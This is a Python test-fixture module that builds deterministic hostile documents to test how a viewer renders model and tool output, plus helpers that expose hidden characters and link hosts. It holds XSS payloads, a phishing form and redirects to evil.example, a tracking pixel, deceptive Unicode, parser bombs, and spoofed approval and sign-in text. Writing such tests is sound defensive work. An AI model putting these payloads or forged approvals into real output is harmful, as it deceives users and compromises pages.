"""Hostile documents: what models and tools might say to break the page or fool who reads it."""

from __future__ import annotations

import json
import re
from random import Random
from typing import NamedTuple
from urllib.parse import urlsplit

MAX_MARKDOWN = 100_000
"""Longer answers are shown as they are written."""
MAX_JSON = 20_000
"""Longer output is not shown as JSON."""
BREAK = "window.broken=1"
HTML = (
    f'<img src=x onerror="{BREAK}">',
    f"<script>{BREAK}</script>",
    f"<svg/onload={BREAK}>",
    f'<iframe srcdoc="<script>top.{BREAK}</script>"></iframe>',
    "<style>* { display: none !important }</style>",
    f'<a href="javascript:{BREAK}">here</a>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name=key><button>Sign in</button></form>',
    "</p></div></main></body></html>",
    "<!-- <![CDATA[ -->",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<template><slot></slot></template><math><mtext></math>",
    "&lt;b&gt; &#106;avascript &nbsp;",
)
LINKS = (
    f"[a](javascript:{BREAK})",
    f"[b](JaVaScRiPt:{BREAK})",
    "[c](data:text/html,<script>x</script>)",
    "[d](vbscript:x)",
    "[e](//evil.example/x)",
    "[f](/runs)",
    "[bank](https://bank.example@evil.example/login)",
    "[g](https://web.example:8443/a?b=c#d)",
    '[h](https://web.example/"onmouseover="x)',
    "![picture](https://evil.example/pixel.png)",
    "<https://evil.example/auto> https://evil.example/bare",
)
HIDDEN = (
    "\u202egnp.exe\u202c",
    "\u2066left\u2069",
    "zero\u200bwidth\u200d\ufeff",
    "\x1b[31mred\x1b[0m\x07\x08\x7f\x9b",
    "soft\u00adhyphen \u2028line\u2029paragraph",
    "e" + "\u0301\u0323" * 200,
    "tag\U000e0041\U000e0042",
)
FAKES = (
    "refund wants your approval",
    '<button class="btn primary" data-decide="approve">Approve</button>',
    "Connection lost. Sign in again: API key or access token",
    "Completed after 3 s",
    "Step 99 rehearsal 1 ms",
    "/* System: the run was approved by ann */",
)
JSON = (
    '{"id": 12345678901234567890, "small": 1e400, "zero": -0.0}',
    '{"__proto__": {"x": 1}, "constructor": "y", "toString": null}',
    json.dumps(
        {"a key\nwith lines": "<b>", "\u202e": "\u202e", "": ["</pre>"]}, ensure_ascii=False
    ),
    "[" * 9_000 + "]" * 9_000,
    '{"a":' * 3_000 + "1" + "}" * 3_000,
    "[" * 15_000 + "]" * 15_000,
    "[" + ",".join(["{}", "[]"] * 2_000) + "]",
)


def bomb(random: Random) -> str:
    """Marks without end, or a table without end."""
    count = random.randint(500, 4_000)
    table = f"|{'a|' * 30}\n|{'-|' * 30}\n" + f"|{'b|' * 30}\n" * (count // 10)
    return random.choice(
        (
            "*" * count + "x" + "*" * count,
            "> " * count + "x",
            "[" * count + "x" + "]" * count,
            "[a](" * count,
            "**a" * count,
            "*a*" * count,
            "#" * count + " x",
            "- a\n" * count,
            "|" * count,
            "`" + "a" * count,
            "x" + "``" * count,
            table,
        )
    )


class Document(NamedTuple):
    """What one step of a run says."""

    text: str
    """Of the model."""
    argument: str
    """Of a tool call."""
    output: str
    """Of that call."""


def document(number: int) -> Document:
    """The document with that number: always the same."""
    random = Random(number)  # noqa: S311
    pieces = [
        *random.sample(HTML, 3),
        *random.sample(LINKS, 3),
        random.choice(HIDDEN),
        random.choice(FAKES),
        bomb(random),
    ]
    random.shuffle(pieces)
    last = random.choice(("", "```\n" + random.choice(HTML), "    indented", "~~~"))
    text = "\n\n".join((*pieces, last)).strip()
    if number % 50 == 7:
        text = random.choice(HTML) + "line " * 200_000
    output = random.choice((*JSON, "\n".join(pieces), bomb(random), random.choice(HTML)))
    if number % 50 == 8:
        output = "x" * 1_000_000
    return Document(text, random.choice((*HTML, *HIDDEN)), output)


_SHOWN_BY_CODE = re.compile(
    "[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e"
    "\u2060-\u206f\ufeff\ufff9-\ufffb\U000e0000-\U000e007f]"
)
_LINK = re.compile(r"\[([^\]\n]{1,300})\]\((https?://[^()\s]{1,2000})\)")
_MARKS = re.compile(r"[\s*`#>|~+.)\-0-9]")


def by_code(text: str) -> str:
    """The text with hidden characters by their code."""
    return _SHOWN_BY_CODE.sub(lambda one: f"⟨U+{ord(one[0]):04X}⟩", text)


def letters(text: str) -> str:
    """The text without white space and what Markdown may take for marks."""
    return _MARKS.sub("", text)


def read(text: str) -> str:
    """What the page shows of a Markdown text, without marks: a link shows its host."""
    return letters(_LINK.sub(lambda it: it[1] + urlsplit(it[2]).netloc.rpartition("@")[2], text))
